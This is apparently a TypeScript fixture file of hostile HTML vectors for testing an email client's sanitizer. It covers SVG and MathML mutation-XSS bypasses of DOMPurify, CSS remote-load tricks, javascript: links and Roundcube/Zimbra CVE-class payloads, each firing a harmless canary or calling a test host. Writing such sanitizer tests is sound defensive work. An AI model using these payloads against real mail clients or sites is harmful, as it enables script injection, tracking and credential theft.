/**
 * Hostile messages of our own, beside DOMPurify's fixtures. Payloads call the canary
 * `top.__xss('<id>')` (never alert) and load from `remote.test` (the counting server).
 *
 * `raw` says what the vector provably does when rendered WITHOUT protection (as is, in
 * a frame that runs scripts); the self-test asserts it, so every vector here is shown
 * to be live in this Chromium rather than assumed to be:
 * - 'script': the canary fires (or, from an opaque-origin document that cannot reach
 *   `top`, an alert() carrying the id opens a dialog);
 * - 'remote': the remote host is reached;
 * - 'inert': neither happens in today's Chromium (kept because it attacked other
 *   renderers or sanitizers; it must still leave no trace through our path).
 */
import type { RenderRequest } from '../../testing/browser/hostile/harness/protocol.ts';

export interface Vector extends RenderRequest {
  id: string;
  title: string;
  raw: 'script' | 'remote' | 'inert';
}

const canary = (id: string) => `top.__xss('${id}')`;
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const b64 = (text: string) => Buffer.from(text).toString('base64');

export const VECTORS: Vector[] = [
  // --- SVG ---
  { id: 'svg-onload', title: 'SVG onload', raw: 'script', html: `<svg onload="${canary('svg-onload')}"></svg>` },
  { id: 'svg-script', title: 'script inside SVG', raw: 'script', html: `<svg><script>${canary('svg-script')}</script></svg>` },
  {
    id: 'svg-animate-href',
    title: 'SVG animate sets a link href to javascript: (Roundcube CVE-2024-37383 class)',
    raw: 'script',
    html: `<svg width="100" height="40"><a id="t"><animate attributeName="href" values="javascript:${canary('svg-animate-href')}" begin="0s" fill="freeze"/><text x="5" y="20">click</text></a></svg>`,
    click: ['a'],
  },
  {
    id: 'svg-animate-href-space',
    title: 'SVG animate with attributeName="href " (trailing space, CVE-2024-37383)',
    raw: 'inert',
    html: `<svg width="100" height="40"><a><animate attributeName="href " values="javascript:${canary('svg-animate-href-space')}" begin="0s" fill="freeze"/><text x="5" y="20">click</text></a></svg>`,
    click: ['a'],
  },
  {
    id: 'svg-set-href',
    title: 'SVG set sets a link href to javascript:',
    raw: 'script',
    html: `<svg width="100" height="40"><a><set attributeName="href" to="javascript:${canary('svg-set-href')}" begin="0s"/><text x="5" y="20">click</text></a></svg>`,
    click: ['a'],
  },
  {
    id: 'svg-animate-onbegin',
    title: 'SVG animate onbegin',
    raw: 'script',
    html: `<svg><animate onbegin="${canary('svg-animate-onbegin')}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    id: 'svg-use-data',
    title: 'SVG use with a data: SVG carrying onerror (Roundcube CVE-2023-5631 class)',
    raw: 'inert',
    html: `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${canary('svg-use-data')}"/></svg>`)}#x"/></svg>`,
  },
  {
    id: 'svg-use-remote',
    title: 'SVG use with an external reference',
    raw: 'inert',
    html: '<svg><use href="http://remote.test/sprite.svg#icon"/></svg>',
  },
  {
    id: 'svg-foreignobject',
    title: 'HTML inside SVG foreignObject',
    raw: 'script',
    html: `<svg><foreignObject width="10" height="10"><img src="x" onerror="${canary('svg-foreignobject')}"></foreignObject></svg>`,
  },
  {
    id: 'svg-image-remote',
    title: 'SVG image with xlink:href to the remote host',
    raw: 'remote',
    html: '<svg width="10" height="10"><image xlink:href="http://remote.test/svg-image.png" width="10" height="10"/></svg>',
  },
  {
    id: 'svg-feimage',
    title: 'feImage loading a remote image into a filter',
    raw: 'remote',
    html: '<svg width="20" height="20"><filter id="f"><feImage href="http://remote.test/feimage.png"/></filter><rect width="20" height="20" filter="url(#f)"/></svg>',
  },
  {
    id: 'svg-filter-external',
    title: 'SVG presentation attribute pointing at an external resource',
    raw: 'inert',
    html: '<svg width="20" height="20"><rect width="20" height="20" fill="url(http://remote.test/paint.svg#p)" mask="url(http://remote.test/mask.svg#m)"/></svg>',
  },
  {
    id: 'svg-cdata',
    title: 'CDATA in SVG hiding an img (Roundcube washtml bypass class)',
    raw: 'script',
    html: `<svg><![CDATA[><image xlink:href="]]><img src="x" onerror="${canary('svg-cdata')}">"></svg>`,
  },
  // --- MathML and mutation XSS ---
  {
    id: 'mxss-mglyph-style',
    title: 'math > mtext > table > mglyph > style namespace confusion (DOMPurify 2.0.0 bypass)',
    raw: 'script',
    roundTrip: true,
    html: `<math><mtext><table><mglyph><style><img src="x" onerror="${canary('mxss-mglyph-style')}"></style></mglyph></table></mtext></math>`,
  },
  {
    id: 'mxss-mglyph-comment',
    title: 'mglyph/style with a comment closing in an attribute (DOMPurify 2.0.1 bypass)',
    raw: 'inert',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${canary('mxss-mglyph-comment').replace(/'/g, '&#39;')}&gt;">`,
  },
  {
    id: 'mxss-form-math',
    title: 'nested form + math namespace switch (DOMPurify 2.2.2 bypass)',
    raw: 'script',
    roundTrip: true,
    html: `<form><math><mtext></form><form><mglyph><style></math><img src="x" onerror="${canary('mxss-form-math')}">`,
  },
  {
    id: 'mxss-svg-p-style',
    title: '</p> inside svg moves a style out of SVG (DOMPurify 2.0.17 bypass)',
    raw: 'script',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${canary('mxss-svg-p-style')}>">`,
  },
  {
    id: 'mxss-noscript',
    title: 'noscript parsed differently with scripting on and off',
    raw: 'script',
    html: `<noscript><p title="</noscript><img src=x onerror=${canary('mxss-noscript')}>"></noscript>`,
  },
  {
    id: 'mxss-svg-style',
    title: 'style inside SVG holds markup, which breaks out on re-parse',
    raw: 'script',
    html: `<svg><style><img src="x" onerror="${canary('mxss-svg-style')}"></style></svg>`,
  },
  {
    id: 'mxss-template',
    title: 'template content (inert in place, live if re-parsed elsewhere)',
    raw: 'inert',
    html: `<template><img src="x" onerror="${canary('mxss-template')}"></template><div>after template</div>`,
  },
  {
    id: 'mxss-mtext-mglyph-svg',
    title: 'mtext > mglyph > svg > mtext > style (namespace confusion through MathML text integration points)',
    raw: 'script',
    html: `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${canary('mxss-mtext-mglyph-svg')}>">`,
  },
  {
    id: 'mathml-href',
    title: 'MathML element with a javascript: href (Zimbra/Roundcube math bypass class)',
    raw: 'inert',
    html: `<math><mi xlink:href="javascript:${canary('mathml-href')}" href="javascript:${canary('mathml-href')}">click</mi></math>`,
    click: ['mi'],
  },
  // --- CSS ---
  {
    id: 'css-import',
    title: 'CSS @import from the remote host',
    raw: 'remote',
    html: '<style>@import url(http://remote.test/import.css);</style><p>styled</p>',
  },
  {
    id: 'css-import-string',
    title: 'CSS @import with a bare string',
    raw: 'remote',
    html: '<style>@import "http://remote.test/import-string.css";</style><p>styled</p>',
  },
  {
    id: 'css-style-attr-url',
    title: 'remote background in a style attribute (Roundcube "link in style attribute" class)',
    raw: 'remote',
    html: '<div style="background-image:url(http://remote.test/style-attr.png);width:20px;height:20px">x</div>',
  },
  {
    id: 'css-escaped-url',
    title: 'url() written with a CSS escape (\\75 rl)',
    raw: 'remote',
    html: '<div style="background:\\75 rl(http://remote.test/escaped.png);width:20px;height:20px">x</div>',
  },
  {
    id: 'css-comment-url',
    title: 'url() split by a comment and upper case',
    raw: 'remote',
    html: '<div style="background-image:/**/URL( \'http://remote.test/comment.png\' );width:20px;height:20px">x</div>',
  },
  {
    id: 'css-image-set',
    title: 'image-set() with a bare string URL',
    raw: 'remote',
    html: '<div style="background-image:image-set(\'http://remote.test/image-set.png\' 1x);width:20px;height:20px">x</div>',
  },
  {
    id: 'css-sheet-comment-wrapped',
    title: 'style sheet wrapped in <!-- --> with a remote background',
    raw: 'remote',
    html: '<style><!-- .bg { background: url(http://remote.test/sheet.png); width: 20px; height: 20px } --></style><div class="bg">x</div>',
  },
  {
    id: 'css-font-face',
    title: '@font-face from the remote host',
    raw: 'remote',
    html: '<style>@font-face { font-family: Tracker; src: url(http://remote.test/font.woff2) } p { font-family: Tracker }</style><p>text</p>',
  },
  {
    id: 'css-custom-property',
    title: 'URL hidden in a custom property used through var()',
    raw: 'remote',
    html: '<style>:root { --u: url(http://remote.test/var.png) } .v { background-image: var(--u); width: 20px; height: 20px }</style><div class="v">x</div>',
  },
  {
    id: 'css-custom-property-escaped',
    title: 'escaped url() in a custom property (stored uncanonicalised)',
    raw: 'remote',
    html: '<div style="--u: \\75 rl(http://remote.test/var-escaped.png); background-image: var(--u); width: 20px; height: 20px">x</div>',
  },
  {
    id: 'css-media-nested',
    title: 'remote URL inside @media and @supports',
    raw: 'remote',
    html: '<style>@media all { @supports (display: block) { .m { background: url(http://remote.test/media.png); width: 20px; height: 20px } } }</style><div class="m">x</div>',
  },
  {
    id: 'css-style-breakout',
    title: 'a sheet trying to close its own <style> element',
    raw: 'script',
    html: `<style>p[title="</style><img src=x onerror=${canary('css-style-breakout')}>"] { color: red }</style><p>x</p>`,
  },
  {
    id: 'css-js-url',
    title: 'javascript: and expression() in CSS (old IE tricks)',
    raw: 'inert',
    html: `<div style="background-image:url('javascript:${canary('css-js-url')}');width:expression(${canary('css-js-url')});behavior:url(http://remote.test/x.htc)">x</div>`,
  },
  {
    id: 'css-cursor-list',
    title: 'remote url() in a comma list (cursor) where replacement would be invalid',
    raw: 'inert',
    html: '<div style="cursor:url(http://remote.test/cursor.png), auto;width:20px;height:20px">x</div>',
  },
  // --- Resource attributes ---
  { id: 'img-onerror', title: 'img onerror', raw: 'script', html: `<img src="x" onerror="${canary('img-onerror')}">` },
  {
    id: 'img-remote',
    title: 'tracking pixel',
    raw: 'remote',
    html: '<p>Hi</p><img src="http://remote.test/pixel.png" width="1" height="1">',
  },
  {
    id: 'img-protocol-relative',
    title: 'protocol-relative image URL',
    raw: 'remote',
    html: '<img src="//remote.test/relative-proto.png">',
  },
  {
    id: 'img-relative',
    title: 'relative image URL (would hit the app itself)',
    raw: 'inert',
    html: '<img src="/api/logout.png"><img src="tracker.png">',
  },
  {
    id: 'img-srcset',
    title: 'srcset with a remote candidate',
    raw: 'remote',
    html: `<img src="${PNG}" srcset="http://remote.test/srcset.png 1x, http://remote.test/srcset2.png 2x">`,
  },
  {
    id: 'picture-source',
    title: 'picture > source srcset',
    raw: 'remote',
    html: `<picture><source srcset="http://remote.test/source.png"><img src="${PNG}"></picture>`,
  },
  {
    id: 'background-attribute',
    title: 'legacy background attribute on table and body',
    raw: 'remote',
    html: '<body background="http://remote.test/body-bg.png"><table background="http://remote.test/table-bg.png"><tr><td background="http://remote.test/td-bg.png">x</td></tr></table></body>',
  },
  {
    id: 'video-poster',
    title: 'video poster',
    raw: 'remote',
    html: '<video poster="http://remote.test/poster.png" width="20" height="20"></video>',
  },
  {
    id: 'video-source-onerror',
    title: 'video source onerror',
    raw: 'script',
    html: `<video><source onerror="${canary('video-source-onerror')}"></video>`,
  },
  { id: 'input-image', title: 'input type=image', raw: 'remote', html: '<input type="image" src="http://remote.test/input.png">' },
  {
    id: 'link-stylesheet',
    title: 'link rel=stylesheet',
    raw: 'remote',
    html: '<link rel="stylesheet" href="http://remote.test/link.css"><p>x</p>',
  },
  {
    id: 'link-prefetch',
    title: 'link rel=prefetch / dns-prefetch',
    raw: 'remote',
    html: '<link rel="prefetch" href="http://remote.test/prefetch.png"><link rel="dns-prefetch" href="//remote.test">',
  },
  {
    id: 'meta-refresh',
    title: 'meta refresh to the remote host',
    raw: 'remote',
    html: '<meta http-equiv="refresh" content="0;url=http://remote.test/refresh"><p>x</p>',
    settleMs: 400,
  },
  {
    id: 'meta-refresh-js',
    title: 'meta refresh to javascript:',
    raw: 'inert',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${canary('meta-refresh-js')}"><p>x</p>`,
    settleMs: 400,
  },
  {
    id: 'base-href',
    title: 'base href rebasing relative URLs onto the remote host',
    raw: 'remote',
    html: '<base href="http://remote.test/"><img src="rebased.png">',
  },
  {
    id: 'object-data',
    title: 'object with a data: HTML document',
    raw: 'script',
    html: `<object data="data:text/html;base64,${b64(`<script>alert('object-data')</script>`)}"></object>`,
  },
  {
    id: 'embed-remote',
    title: 'embed of a remote resource',
    raw: 'remote',
    html: '<embed src="http://remote.test/embed.png" type="image/png">',
  },
  {
    id: 'iframe-srcdoc',
    title: 'iframe srcdoc',
    raw: 'script',
    html: `<iframe srcdoc="<script>top.__xss('iframe-srcdoc')</script>"></iframe>`,
  },
  { id: 'iframe-remote', title: 'iframe of the remote host', raw: 'remote', html: '<iframe src="http://remote.test/frame.html"></iframe>' },
  // --- Forms and links ---
  {
    id: 'form-action-js',
    title: 'form action javascript:',
    raw: 'script',
    html: `<form action="javascript:${canary('form-action-js')}"><input type="submit" id="go" value="go"></form>`,
    click: ['#go', 'input'],
  },
  {
    id: 'button-formaction',
    title: 'button formaction javascript:',
    raw: 'script',
    html: `<form><button formaction="javascript:${canary('button-formaction')}" id="b">go</button></form>`,
    click: ['button'],
  },
  {
    id: 'form-remote',
    title: 'form posting to the remote host',
    raw: 'remote',
    html: '<form action="http://remote.test/collect" method="post"><input name="password" value="x"><button id="s">Log in</button></form>',
    click: ['button'],
  },
  {
    id: 'input-autofocus',
    title: 'input autofocus onfocus',
    raw: 'script',
    html: `<input autofocus onfocus="${canary('input-autofocus')}">`,
  },
  {
    id: 'details-ontoggle',
    title: 'details open ontoggle (Zimbra CVE-2025-27915 class)',
    raw: 'script',
    html: `<details open ontoggle="${canary('details-ontoggle')}"><summary>s</summary>x</details>`,
  },
  { id: 'body-onload', title: 'body onload', raw: 'script', html: `<body onload="${canary('body-onload')}">x</body>` },
  {
    id: 'marquee-onstart',
    title: 'marquee onstart (Chromium no longer fires it)',
    raw: 'inert',
    html: `<marquee onstart="${canary('marquee-onstart')}">x</marquee>`,
  },
  { id: 'a-js', title: 'javascript: link', raw: 'script', html: `<a href="javascript:${canary('a-js')}">click</a>`, click: ['a'] },
  {
    id: 'a-js-entities',
    title: 'javascript: link with entity-encoded tab and case',
    raw: 'script',
    html: `<a href="JaVa&#x09;ScRiPt:${canary('a-js-entities')}">click</a>`,
    click: ['a'],
  },
  {
    id: 'a-js-leading-space',
    title: 'javascript: link after control characters',
    raw: 'script',
    html: `<a href="&#x01; javascript:${canary('a-js-leading-space')}">click</a>`,
    click: ['a'],
  },
  {
    id: 'a-data-html',
    title: 'data:text/html link',
    raw: 'inert',
    html: `<a href="data:text/html,<script>${canary('a-data-html')}</script>">click</a>`,
    click: ['a'],
  },
  { id: 'a-vbscript', title: 'vbscript: link', raw: 'inert', html: '<a href="vbscript:msgbox(1)">click</a>', click: ['a'] },
  {
    id: 'area-js',
    title: 'image map area with javascript:',
    raw: 'script',
    html: `<img src="${PNG}" usemap="#m" width="10" height="10"><map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${canary('area-js')}"></map>`,
    click: ['area'],
  },
  {
    id: 'a-ping',
    title: 'link ping to the remote host',
    raw: 'remote',
    html: '<a href="https://example.invalid/" ping="http://remote.test/ping">click</a>',
    click: ['a'],
  },
  // --- Roundcube CVE-2024-42009: attributes that a post-sanitize rewrite could turn live ---
  {
    id: 'roundcube-body-desanitize',
    title: 'body attributes crafted to be re-split into an event handler (Roundcube CVE-2024-42009)',
    raw: 'inert',
    html: `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=${canary('roundcube-body-desanitize')} foo=bar">Foo</body>`,
  },
  {
    id: 'roundcube-bgcolor-breakout',
    title: 'bgcolor value trying to break out of the generated style',
    raw: 'inert',
    html: `<body bgcolor="red;background:url(http://remote.test/bgcolor.png)" text="blue;x:y">Foo</body>`,
  },
  // --- Inline parts ---
  {
    id: 'cid-html-part',
    title: 'cid: reference to an inline part that is really HTML with script (Roundcube CVE-2024-42008 class)',
    raw: 'inert',
    html: `<img src="cid:evil@x"><a href="cid:evil@x">open</a><iframe src="cid:evil@x"></iframe>`,
    cids: { 'evil@x': { type: 'text/html', body: `<script>top.__xss('cid-html-part')</script>` } },
    click: ['a'],
  },
  // --- Header fields and plain text (rendered as React text) ---
  {
    id: 'header-subject',
    title: 'script in the subject',
    raw: 'script',
    subject: `<img src=x onerror="${canary('header-subject')}">Invoice`,
    text: 'body',
  },
  {
    id: 'header-sender',
    title: 'script in the sender name',
    raw: 'script',
    senderName: `<details open ontoggle="${canary('header-sender')}">`,
    senderEmail: 'sender@remote.test',
    text: 'body',
  },
  {
    id: 'header-attachment',
    title: 'script and a bidi override in an attachment file name',
    raw: 'script',
    attachmentName: `"><img src=x onerror="${canary('header-attachment')}">\u202Efdp.exe`,
    text: 'body',
  },
  {
    id: 'text-markup',
    title: 'markup and javascript: in a plain-text body (Roundcube CVE-2020-35730 / CVE-2023-43770 classes)',
    raw: 'script',
    text: `Hi <img src=x onerror="${canary('text-markup')}">\nsee https://example.com/"><svg/onload=${canary('text-markup')}> and javascript:${canary('text-markup')}\n> quoted <script>${canary('text-markup')}</script>`,
  },
];
